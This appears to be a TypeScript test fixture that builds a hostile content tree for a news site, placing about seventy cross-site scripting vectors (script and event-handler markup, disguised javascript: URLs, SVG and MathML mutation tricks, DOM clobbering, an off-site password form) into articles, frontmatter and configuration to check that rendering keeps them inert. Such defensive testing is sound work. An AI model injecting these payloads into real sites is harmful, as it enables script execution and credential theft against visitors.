/**
 * A corpus of hostile input, written into a content tree as an editor (or an
 * attacker with commit access) would: every vector in the body of an article
 * and in every frontmatter text field that reaches a page, a feed, JSON-LD,
 * meta tags or the search index; address-shaped vectors also where the schema
 * takes an address. Each placement is a file of its own, so a file the
 * validator refuses takes no other placement with it.
 *
 * Vectors call alert() (a dialog the test listens for) or ask for a URL with
 * "xss-beacon" in it (a request the test listens for): either means code ran
 * or markup reached the page that should not have.
 */
import { copyFileSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';

export interface Vector {
  id: string;
  /** What it tries. */
  name: string;
  /** As written in Markdown: raw HTML, Markdown, or an address. */
  payload: string;
  /** An address: placed in link destinations and address fields rather than as markup. */
  url?: boolean;
}

export const VECTORS: Vector[] = [
  // Script and style elements.
  { id: 'script-tag', name: 'a script element', payload: '<script>alert(1)</script>' },
  { id: 'script-src', name: 'a script element with a source, upper case', payload: '<SCRIPT SRC=/xss-beacon.js></SCRIPT>' },
  { id: 'script-split', name: 'a script element that hides an SVG handler in a comment', payload: '<script>/*</script><svg onload=alert(2)>*/</script>' },
  { id: 'style-import', name: 'a style element importing a stylesheet', payload: "<style>@import '/xss-beacon.css';</style>" },
  { id: 'style-attribute', name: 'a style attribute with a javascript: URL', payload: '<div style="background-image:url(javascript:alert(3))">styled</div>' },
  { id: 'link-stylesheet', name: 'a stylesheet link in the body', payload: '<link rel="stylesheet" href="/xss-beacon.css">' },
  // Event handlers.
  { id: 'img-onerror', name: 'an image with onerror', payload: '<img src=x onerror=alert(5)>' },
  { id: 'img-onerror-entities', name: 'onerror with an entity-encoded call, upper case', payload: '<IMG SRC=x ONERROR=&#97;lert(6)>' },
  { id: 'img-eval-src', name: 'onerror evaluating its own source', payload: '<img src=x:alert(alt) onerror=eval(src) alt=7>' },
  { id: 'svg-onload', name: 'an SVG with onload', payload: '<svg onload=alert(8)>' },
  { id: 'body-onload', name: 'a body element with onload', payload: '<body onload=alert(9)>' },
  { id: 'details-ontoggle', name: 'an open details element with ontoggle', payload: '<details open ontoggle=alert(10)><summary>x</summary></details>' },
  { id: 'input-autofocus', name: 'an autofocused input with onfocus', payload: '<input autofocus onfocus=alert(11)>' },
  { id: 'source-onerror', name: 'a video source with onerror', payload: '<video><source onerror="alert(12)"></video>' },
  { id: 'anchor-handlers', name: 'a link with onclick and onmouseover', payload: '<a href="#" onclick="alert(13)" onmouseover=alert(13)>hover</a>' },
  { id: 'handler-slash', name: 'a handler after a slash instead of a space', payload: '<img/src=x/onerror=alert(14)>' },
  // javascript: in every disguise.
  { id: 'js-link', name: 'a Markdown link to javascript:', payload: 'javascript:alert(15)', url: true },
  { id: 'js-mixed-case', name: 'javascript: in mixed case', payload: 'JaVaScRiPt:alert(16)', url: true },
  { id: 'js-entity-tab', name: 'javascript: split by an encoded tab', payload: 'java&#x09;script:alert(17)', url: true },
  { id: 'js-decimal-entities', name: 'javascript: as decimal character references', payload: '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(18)', url: true },
  { id: 'js-newline-entity', name: 'javascript: split by an encoded newline', payload: 'jav&#x0A;ascript:alert(19)', url: true },
  { id: 'js-leading-space', name: 'javascript: after a leading control character', payload: '&#1;javascript:alert(20)', url: true },
  { id: 'js-colon-entity', name: 'javascript&colon;', payload: 'javascript&colon;alert(21)', url: true },
  { id: 'js-raw-anchor', name: 'a raw HTML link to javascript:', payload: '<a href="javascript:alert(22)">raw link</a>' },
  { id: 'js-raw-anchor-entity', name: 'a raw HTML link with an entity-encoded scheme', payload: '<a href="&#x6A;avascript:alert(23)">raw link</a>' },
  { id: 'js-percent', name: 'a percent-encoded scheme', payload: '%6Aavascript:alert(24)', url: true },
  { id: 'vbscript', name: 'a vbscript: link', payload: 'vbscript:msgbox(25)', url: true },
  { id: 'data-html', name: 'a data: HTML document', payload: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgyNik8L3NjcmlwdD4=', url: true },
  { id: 'data-svg-img', name: 'an image whose source is a data: SVG with a handler', payload: '<img src="data:image/svg+xml,&lt;svg onload=alert(27)&gt;">' },
  { id: 'object-data', name: 'an object with a data: document', payload: '<object data="data:text/html,<script>alert(28)</script>"></object>' },
  { id: 'embed-js', name: 'an embed with a javascript: source', payload: '<embed src="javascript:alert(29)">' },
  { id: 'srcset-js', name: 'a javascript: URL in srcset', payload: '<img src="/logo.svg" srcset="javascript:alert(30) 1x" alt="">' },
  { id: 'protocol-relative', name: 'a protocol-relative link off the site', payload: '//xss-beacon.invalid/x', url: true },
  // SVG and MathML.
  { id: 'svg-script', name: 'a script inside SVG', payload: '<svg><script>alert(31)</script></svg>' },
  { id: 'svg-xlink', name: 'an SVG link with xlink:href javascript:', payload: '<svg><a xlink:href="javascript:alert(32)"><text x="0" y="15">svg link</text></a></svg>' },
  { id: 'svg-animate', name: 'an SVG animation that sets href to javascript:', payload: '<svg><a><animate attributeName="href" values="javascript:alert(33)"/><text x="0" y="15">animated</text></a></svg>' },
  { id: 'svg-foreign', name: 'an iframe inside SVG foreignObject', payload: '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(34)&lt;/script&gt;"></iframe></foreignObject></svg>' },
  { id: 'mathml-mxss', name: 'MathML namespace confusion (mutation XSS)', payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(35)></style></mglyph></table></mtext></math>' },
  { id: 'mathml-href', name: 'a MathML element with a javascript: href', payload: '<math href="javascript:alert(36)"><mi>x</mi></math>' },
  // Frames and forms.
  { id: 'iframe-js', name: 'an iframe with a javascript: source', payload: '<iframe src="javascript:alert(37)"></iframe>' },
  { id: 'iframe-srcdoc', name: 'an iframe with srcdoc', payload: '<iframe srcdoc="&lt;script&gt;alert(38)&lt;/script&gt;"></iframe>' },
  { id: 'form-action', name: 'a form posting to javascript:', payload: '<form action="javascript:alert(39)"><button>Send</button></form>' },
  { id: 'button-formaction', name: 'a button with formaction', payload: '<button formaction="javascript:alert(40)">Go</button>' },
  { id: 'form-offsite', name: 'a password form posting off the site', payload: '<form action="https://xss-beacon.invalid/steal" method="post"><input type="password" name="p"><button>Log in</button></form>' },
  // Base and meta refresh.
  { id: 'base-href', name: 'a base element', payload: '<base href="https://xss-beacon.invalid/">' },
  { id: 'meta-refresh-js', name: 'a meta refresh to javascript:', payload: '<meta http-equiv="refresh" content="0;url=javascript:alert(41)">' },
  { id: 'meta-refresh-beacon', name: 'a meta refresh to a page of the attacker', payload: '<meta http-equiv="refresh" content="0;url=/xss-beacon">' },
  // DOM clobbering: names and ids that shadow what the page's scripts look up.
  { id: 'clobber-rail', name: 'an element claiming the LATEST rail', payload: '<div data-latest-rail="https://xss-beacon.invalid/rail.html" id="latest-heading">rail</div>' },
  { id: 'clobber-document', name: 'images named after document methods', payload: '<img name="getElementById" src="/logo.svg" alt=""><img name="querySelector" src="/logo.svg" alt="">' },
  { id: 'clobber-ids', name: "ids of the search page's elements", payload: '<form id="search-form"><input id="search-query" name="action"></form><ol id="search-results"></ol>' },
  { id: 'clobber-globals', name: 'ids shadowing window globals', payload: '<a id="location" href="/xss-beacon">a</a><a id="alert">b</a><div id="__proto__">c</div>' },
  // Markup that parsers disagree about.
  { id: 'noscript-mxss', name: 'a handler hidden in a noscript attribute', payload: '<noscript><p title="</noscript><img src=x onerror=alert(42)>"></p></noscript>' },
  { id: 'template-img', name: 'a template holding an image with onerror', payload: '<template><img src=x onerror=alert(43)></template>' },
  { id: 'comment-breakout', name: 'a comment that ends inside an attribute', payload: '<!--<img src="--><img src=x onerror=alert(44)//">' },
  { id: 'cdata', name: 'a CDATA section around a script', payload: '<![CDATA[<script>alert(45)</script>]]>' },
  { id: 'xmp', name: 'an image with onerror inside xmp', payload: '<xmp><img src=x onerror=alert(46)></xmp>' },
  { id: 'textarea-breakout', name: 'a textarea closed early', payload: '<textarea></textarea><img src=x onerror=alert(47)>' },
  { id: 'title-breakout', name: 'a Markdown link title that closes its attribute', payload: '[titled](https://example.org "t\\" onmouseover=\\"alert(48)")' },
  { id: 'ping', name: 'a link that pings a tracker', payload: '<a href="https://example.org" ping="/xss-beacon">ping</a>' },
  // Text that must stay text wherever it lands.
  { id: 'script-close', name: '</script> in a headline', payload: '</script><script>alert(49)</script>' },
  { id: 'attribute-breakout', name: 'a quote that leaves an attribute', payload: '"><svg onload=alert(50)>' },
  { id: 'single-quote-breakout', name: 'a single quote that leaves an attribute', payload: "' onmouseover='alert(51)" },
  { id: 'line-separators', name: 'U+2028 and U+2029 in a dek, which end a JavaScript string in older engines', payload: 'one\u2028two\u2029three </script>' },
  { id: 'template-injection', name: 'template syntax of client frameworks', payload: "{{constructor.constructor('alert(52)')()}} ${alert(53)}" },
  { id: 'escaped-markup', name: 'markup written as text (entities), which a search excerpt must keep as text', payload: '&lt;img src=x onerror=alert(54)&gt; zebrafinch' },
  // Embed directives (src/lib/media/embeds.ts): refused addresses never frame; accepted ones keep text as text.
  { id: 'embed-javascript', name: 'an embed of a javascript: address', payload: '::embed[Watch]{url="javascript:alert(55)"}' },
  { id: 'embed-userinfo', name: 'an embed whose host hides behind a user name', payload: '::embed[Watch]{url="https://www.youtube.com@xss-beacon.example/watch?v=Xk3pL9qR2sT"}' },
  { id: 'embed-handler-attribute', name: 'an embed with an event handler attribute', payload: '::embed[Watch]{url="https://youtu.be/Xk3pL9qR2sT" onload="alert(56)"}' },
  { id: 'embed-title-breakout', name: 'an embed title that tries to leave the title attribute', payload: '::embed[x" onload="alert(57)" srcdoc="<script>alert(58)</script>]{url="https://youtu.be/Xk3pL9qR2sT"}' },
  { id: 'embed-quote-markup', name: 'a social card whose quote and author hold markup', payload: '::embed[<img src=x onerror=alert(59)> <script>alert(60)</script>]{url="https://x.com/eve/status/1861234567890123456" author="<svg onload=alert(61)>"}' },
];

/** Where a vector is written: each placement is one file. */
export type Placement = 'fields' | 'body' | 'addresses' | 'author';

export interface PlacedFile {
  vector: Vector;
  placement: Placement;
  /** Path inside the content folder. */
  file: string;
  /** The article's slug or the author's id. */
  id: string;
}

/** A YAML double-quoted scalar: JSON's escapes, and U+2028/U+2029 escaped too, which YAML 1.1 readers take for line breaks. */
export function yamlString(value: string): string {
  return JSON.stringify(value).replace(/\u2028/g, '\\u2028').replace(/\u2029/g, '\\u2029');
}

/** The sample photo every hostile article shows, and the portrait of the hostile author. */
export const HOSTILE_PHOTO = 'baltic-grid-1.jpg';
const PORTRAIT = 'authors/ingrid-halvorsen.jpg';

/** The regular section and the short-takes brand, named and described with hostile text. */
const SECTIONS = `- id: world
  name: ${yamlString('<img src=x onerror=alert(60)> World')}
  description: ${yamlString('</script><script>alert(61)</script> Everything hostile.')}
- id: quick
  name: Quick
  kind: short-takes
  label: ${yamlString('"><svg onload=alert(62)>')}
  description: ${yamlString("' onmouseover='alert(63)")}
`;

/** A series whose title and description are hostile; the short take is its only part. */
export const HOSTILE_SERIES = 'hostile-series';
const SERIES = `- id: ${HOSTILE_SERIES}
  title: ${yamlString('</script><script>alert(90)</script> "Part" & #1 \u2028 🛢️')}
  description: ${yamlString('"><img src=x onerror=alert(91)> A series under attack.')}
`;

const SITE = `name: ${yamlString('Hostile Gazette </script><svg onload=alert(64)>')}
description: ${yamlString('"><img src=x onerror=alert(65)> A publication under attack.')}
url: https://hostile-gazette.example
language: en
timeZone: Europe/London
logo:
  src: /logo.svg
  alt: ${yamlString('"><svg onload=alert(66)>')}
copyright: ${yamlString('<script>alert(67)</script>')}
shareImage:
  src: /share-card.png
  alt: ${yamlString('</script><script>alert(68)</script>')}
social:
  - network: x
    url: https://x.com/hostile
    label: ${yamlString('<img src=x onerror=alert(69)>')}
newsletter:
  action: https://lists.hostile-gazette.example/subscribe
  pitch: ${yamlString('<script>alert(70)</script> Subscribe for more.')}
  heading: ${yamlString('</h2><script>alert(71)</script>')}
  button: ${yamlString('"><svg onload=alert(72)>')}
`;

/** The author of every hostile article, hostile in every field an author has. */
export const HOSTILE_AUTHOR = 'eve';
const AUTHOR = `---
name: ${yamlString('Eve "><svg onload=alert(73)>')}
role: ${yamlString('</script><script>alert(74)</script>')}
photo:
  src: ../images/${PORTRAIT}
  alt: ${yamlString('<img src=x onerror=alert(75)>')}
links:
  - label: ${yamlString('"><svg onload=alert(76)>')}
    url: ${yamlString('https://example.org/?q="><script>alert(77)</script>')}
---
Eve writes hostile input. <script>alert(78)</script> <img src=x onerror=alert(79)> [a link](https://example.org/eve "title\\" onmouseover=\\"alert(80)").
`;

/** Every frontmatter text field of an article that reaches a page, a feed, JSON-LD, meta tags or the search index. */
function fieldsArticle(vector: Vector, published: string): string {
  const text = vector.payload;
  return `---
title: ${yamlString(`Fields ${vector.id} ${text}`)}
dek: ${yamlString(`Dek ${vector.id} ${text}`)}
type: analysis
section: world
authors: [${HOSTILE_AUTHOR}]
published: ${published}
hero:
  src: ../images/${HOSTILE_PHOTO}
  alt: ${yamlString(`Alt ${text}`)}
  caption: ${yamlString(`Caption ${text}`)}
  credit: ${yamlString(`${text}/Wire`)}
republished:
  outlet: ${yamlString(`Outlet ${text}`)}
  author: ${yamlString(`Author ${text}`)}
corrections:
  - date: ${published.slice(0, 10)}
    text: ${yamlString(`Correction ${text}`)}
tags: [hostile]
---
Every field of this piece carries the vector ${vector.id}.
`;
}

function plainFrontmatter(title: string, published: string, extra = ''): string {
  return `---
title: ${yamlString(title)}
dek: "A piece whose body is hostile."
type: analysis
section: world
authors: [${HOSTILE_AUTHOR}]
published: ${published}
hero:
  src: ../images/${HOSTILE_PHOTO}
  alt: "A power line across a field"
  credit: "Studio/Wire"
${extra}tags: [hostile]
---
`;
}

/** The body: markup in block and inline context, in a list, a table, a quote, a heading and a footnote; addresses in every kind of link. */
function bodyArticle(vector: Vector, published: string): string {
  const p = vector.payload;
  const body = vector.url
    ? `The body links to the vector ${vector.id} in every way Markdown has.

An [inline link](<${p}>) and an ![inline image](<${p}>).

An autolink: <${p}>.

A [reference link][ref].

[ref]: <${p}>

<a href="${p}">A raw link</a> and <img src="${p}" alt="a raw image">.
`
    : `The body carries the vector ${vector.id} in every context.

${p}

Inline: before ${p} after.

- a list item ${p}

| column | other |
| --- | --- |
| ${p.replaceAll('|', '\\|')} | cell |

> a quotation ${p}

## A heading ${p}

A footnote.[^note]

[^note]: The note ${p}
`;
  return `${plainFrontmatter(`Body ${vector.id}`, published)}${body}`;
}

/** Address-shaped vectors where the schema takes an address. */
function addressesArticle(vector: Vector, published: string): string {
  return `${plainFrontmatter(`Addresses ${vector.id}`, published, `canonical: ${yamlString(vector.payload)}
republished:
  outlet: Elsewhere
  url: ${yamlString(vector.payload)}
`)}Canonical and original address carry the vector ${vector.id}.
`;
}

function authorWithLink(vector: Vector): string {
  return `---
name: ${yamlString(`Author ${vector.id}`)}
links:
  - label: Home
    url: ${yamlString(vector.payload)}
---
A profile whose link is the vector ${vector.id}.
`;
}

/** Publication dates one day apart, across the turn of a year, so the search index has shards of both years. */
function publishedAt(index: number): string {
  const start = Date.UTC(2025, 11, 1, 9);
  return new Date(start + index * 86_400_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
}

/** A short take in the hostile brand, so its label is shown. */
const SHORT_TAKE = `---
title: "A short take"
dek: "The brand label is the hostile part."
type: short-take
section: quick
authors: [${HOSTILE_AUTHOR}]
published: 2026-10-30T09:00:00Z
series: { id: ${HOSTILE_SERIES}, part: 1 }
---
A brief note.
`;

/**
 * Writes the hostile publication: `<dir>/content` and `<dir>/public` (the
 * repository's, for the logo and share image). Returns every placed file.
 */
export function writeHostileSite(dir: string, repo: string): PlacedFile[] {
  const content = path.join(dir, 'content');
  mkdirSync(path.join(content, 'articles'), { recursive: true });
  mkdirSync(path.join(content, 'authors'), { recursive: true });
  mkdirSync(path.join(content, 'images', 'authors'), { recursive: true });
  copyFileSync(path.join(repo, 'content/images', HOSTILE_PHOTO), path.join(content, 'images', HOSTILE_PHOTO));
  copyFileSync(path.join(repo, 'content/images', PORTRAIT), path.join(content, 'images', PORTRAIT));
  mkdirSync(path.join(dir, 'public'), { recursive: true });
  for (const file of ['logo.svg', 'favicon.svg', 'share-card.png']) copyFileSync(path.join(repo, 'public', file), path.join(dir, 'public', file));
  writeFileSync(path.join(content, 'site.yaml'), SITE);
  writeFileSync(path.join(content, 'sections.yaml'), SECTIONS);
  writeFileSync(path.join(content, 'series.yaml'), SERIES);
  writeFileSync(path.join(content, 'authors', `${HOSTILE_AUTHOR}.md`), AUTHOR);
  writeFileSync(path.join(content, 'articles', 'short-take.md'), SHORT_TAKE);

  const placed: PlacedFile[] = [];
  const write = (vector: Vector, placement: Placement, file: string, id: string, text: string) => {
    writeFileSync(path.join(content, file), text);
    placed.push({ vector, placement, file, id });
  };
  VECTORS.forEach((vector, index) => {
    const published = publishedAt(index);
    write(vector, 'fields', `articles/fields-${vector.id}.md`, `fields-${vector.id}`, fieldsArticle(vector, published));
    write(vector, 'body', `articles/body-${vector.id}.md`, `body-${vector.id}`, bodyArticle(vector, published));
    if (vector.url) {
      write(vector, 'addresses', `articles/addresses-${vector.id}.md`, `addresses-${vector.id}`, addressesArticle(vector, published));
      write(vector, 'author', `authors/link-${vector.id}.md`, `link-${vector.id}`, authorWithLink(vector));
    }
  });
  return placed;
}
